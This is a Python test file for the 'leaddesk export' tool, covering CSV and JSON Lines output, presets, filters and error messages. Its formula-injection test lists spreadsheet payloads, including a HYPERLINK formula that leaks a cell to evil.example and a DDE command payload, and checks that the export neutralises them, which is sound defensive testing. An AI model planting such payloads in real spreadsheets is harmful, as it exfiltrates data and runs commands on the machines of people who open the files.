"""`leaddesk export` end to end: stored submissions in, a file (or stdout) out, read back with csv."""

from __future__ import annotations

import csv
import json
from datetime import timedelta
from pathlib import Path

import pytest

from leaddesk.db import Database
from tests.support.cli import Runner
from tests.support.factories import BASE_TIME, make_submission, seed_small_inbox

BOM = b"\xef\xbb\xbf"
GENERIC = ["id", "message_id", "received_at", "submitted_at", "name", "first_name", "last_name",
           "email", "phone", "company", "topic", "tags", "status", "assignee", "page_url",
           "post_title", "message", "account", "messages", "last_contact", "first_answered_at"]


@pytest.fixture
def url(db_url: str) -> str:
    """The inbox of tests/cli/test_browse.py, on SQLite and PostgreSQL."""
    return seed_small_inbox(db_url)


def read(path: Path, *, encoding: str = "utf-8-sig", delimiter: str = ",") -> list[list[str]]:
    with open(path, encoding=encoding, newline="") as f:
        return list(csv.reader(f, delimiter=delimiter))


def test_export_writes_the_inbox_to_stdout_as_excel_csv(run: Runner, url: str) -> None:
    result = run("--db", url, "export")
    assert result.code == 0, result.err
    assert result.out.startswith('\ufeff"id","message_id",')
    rows = list(csv.reader(result.out.lstrip("\ufeff").splitlines(keepends=True)))
    assert rows[0] == GENERIC
    assert [r[4] for r in rows[1:]] == ["Bob Stone", "Zoë Müller"]
    assert "Exported 2 submissions to standard output" in result.err


@pytest.mark.parametrize("options", [
    [], ["--status", "open"], ["--topic", "Patient engagement"], ["--tag", "hot"],
    ["--assignee", "Ada"], ["--unassigned"], ["-q", "white paper"], ["--since", "2026-03-03"],
    ["--until", "2026-03-02"], ["--sort", "name", "--asc"], ["--status", "spam"], ["--all"],
    ["--all", "--asc"],
])
def test_export_holds_exactly_what_list_shows(run: Runner, url: str, tmp_path: Path,
                                              options: list[str]) -> None:
    listed = run("--db", url, "list", "--json", "-n", "1000", *options)
    assert listed.code == 0, listed.err
    target = tmp_path / "out.csv"
    result = run("--db", url, "export", "-o", str(target), *options)
    assert result.code == 0, result.err
    assert [int(r[0]) for r in read(target)[1:]] == \
        [json.loads(line)["id"] for line in listed.out.splitlines()]


def test_ids_select_exactly_those(run: Runner, url: str, tmp_path: Path) -> None:
    ids = sorted(json.loads(line)["id"] for line in
                 run("--db", url, "list", "--json", "--all").out.splitlines())
    target = tmp_path / "picked.csv"
    spec = f"{ids[0]},{ids[2]}-{ids[2]}"
    assert run("--db", url, "export", "--ids", spec, "-o", str(target)).code == 0
    assert sorted(int(r[0]) for r in read(target)[1:]) == [ids[0], ids[2]]  # spam included
    assert run("--db", url, "export", "--ids", spec, "--status", "new", "-o",
               str(target)).code == 0
    assert [r[4] for r in read(target)[1:]] == ["Zoë Müller"]  # other filters still apply


def test_presets_per_lead_delimiter_and_encoding(run: Runner, url: str, tmp_path: Path) -> None:
    target = tmp_path / "hubspot.csv"
    result = run("--db", url, "export", "--preset", "hubspot", "--per", "lead", "-o", str(target),
                 "--delimiter", ";", "--encoding", "utf-8")
    assert result.code == 0, result.err
    data = target.read_bytes()
    assert not data.startswith(BOM)
    assert data.startswith(b'"First Name";"Last Name";"Email";"Phone Number";"Company Name";')
    rows = read(target, encoding="utf-8", delimiter=";")
    assert [r[:2] for r in rows[1:]] == [["Bob", "Stone"], ["Zoë", "Müller"]]
    assert data.endswith(b"\r\n")
    assert data.count(b"\r\n") == 3

    result = run("--db", url, "export", "--preset", "salesforce", "-o", str(target))
    assert read(target)[0][:3] == ["Salutation", "First Name", "Last Name"]


def test_json_lines_have_the_list_keys(run: Runner, url: str) -> None:
    listed = [json.loads(line) for line in run("--db", url, "list", "--json").out.splitlines()]
    result = run("--db", url, "export", "--format", "jsonl")
    assert result.code == 0, result.err
    exported = [json.loads(line) for line in result.out.splitlines()]
    assert [{k: v for k, v in o.items() if k not in ("first_name", "last_name")}
            for o in exported] == listed
    assert [(o["first_name"], o["last_name"]) for o in exported] == [("Bob", "Stone"),
                                                                     ("Zoë", "Müller")]


def test_zero_rows_give_the_header_only(run: Runner, url: str, tmp_path: Path) -> None:
    target = tmp_path / "none.csv"
    assert run("--db", url, "export", "--status", "waiting", "-o", str(target)).code == 0
    assert target.read_bytes() == BOM + (",".join(f'"{h}"' for h in GENERIC) + "\r\n").encode()


PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1)",
    "tab": "\t=1",
    "cr": "\r=1",
    "separators": 'a,b;c "d"\r\ne',
}


def test_formula_injection_is_neutralised_from_database_to_file(run: Runner, db_url: str,
                                                                tmp_path: Path) -> None:
    db = Database.open(db_url)
    with db.session() as s:
        for i, payload in enumerate(PAYLOADS.values()):
            make_submission(s, visitor_name=payload, visitor_company=payload, topic=payload,
                            body_text=payload, visitor_phone="+44 20 7946 0000",
                            received_at=BASE_TIME + timedelta(minutes=i))
    db.close()
    for delimiter in (",", ";"):
        target = tmp_path / "payloads.csv"
        result = run("--db", db_url, "export", "--asc", "-o", str(target),
                     "--delimiter", delimiter)
        assert result.code == 0, result.err
        header, *rows = read(target, delimiter=delimiter)
        assert len(rows) == len(PAYLOADS)
        for row, payload in zip(rows, PAYLOADS.values(), strict=True):
            cells = dict(zip(header, row, strict=True))
            safe = "'" + payload if payload[0] in "=+-@\t\r" else payload
            assert (cells["name"], cells["company"], cells["topic"], cells["message"]) == \
                (safe, safe, safe, safe)
            assert cells["phone"] == "+44 20 7946 0000"  # a phone number calls nothing
        # No other cell of the file begins with a trigger: every one is quoted, and the quote is
        # followed by ' or by harmless text.
        raw = target.read_bytes().decode("utf-8-sig").replace('"+44 20 7946 0000"', '""')
        for trigger in "=+-@\t\r":
            assert f'{delimiter}"{trigger}' not in raw
            assert f'\n"{trigger}' not in raw


def test_saved_mappings(run: Runner, url: str, tmp_path: Path) -> None:
    result = run("export", "presets", "save", "crm", "--columns",
                 "E-Mail=email,Vorname=first_name", "--columns", "Nachname=last_name,tags")
    assert result.code == 0, result.err
    assert "saved export preset 'crm'" in result.out
    listed = run("export", "presets", "list").out
    assert "crm (saved): E-Mail=email, Vorname=first_name, Nachname=last_name, tags=tags" in listed
    assert "hubspot (built-in): First Name, Last Name, Email" in listed
    assert "first_contact_at" in run("export", "presets", "fields").out

    target = tmp_path / "crm.csv"
    result = run("--db", url, "export", "--columns-preset", "crm", "-o", str(target))
    assert result.code == 0, result.err
    header, *rows = read(target)
    assert header == ["E-Mail", "Vorname", "Nachname", "tags"]
    assert [r[1:] for r in rows] == [["Bob", "Stone", ""], ["Zoë", "Müller", "hot"]]
    assert all(r[0].endswith("@example.org") for r in rows)

    assert run("export", "presets", "delete", "crm").code == 0
    gone = run("--db", url, "export", "--columns-preset", "crm")
    assert gone.code == 1
    assert "no saved export preset 'crm'" in gone.err


@pytest.mark.parametrize(("argv", "message"), [
    (["export", "--preset", "hubspot", "--columns-preset", "x"], "not both"),
    (["export", "--format", "jsonl", "--preset", "hubspot"], "JSON Lines always has every field"),
    (["export", "--format", "jsonl", "--encoding", "utf-8-sig"], "always plain UTF-8"),
    (["export", "--ids", "4-x"], "not a submission id or range"),
    (["export", "-o", "/nonexistent-folder/out.csv"], "cannot write /nonexistent-folder/out.csv"),
    (["export", "presets", "save", "x", "--columns", "Mail=e_mail"], "unknown field 'e_mail'"),
    (["export", "presets", "delete", "nope"], "no saved export preset 'nope'"),
])
def test_user_errors_are_one_line_and_nonzero(run: Runner, sqlite_url: str, argv: list[str],
                                              message: str) -> None:
    result = run("--db", sqlite_url, *argv)
    assert result.code == 1
    assert result.err.count("\n") == 1, result.err
    assert message in result.err
    assert "Traceback" not in result.err
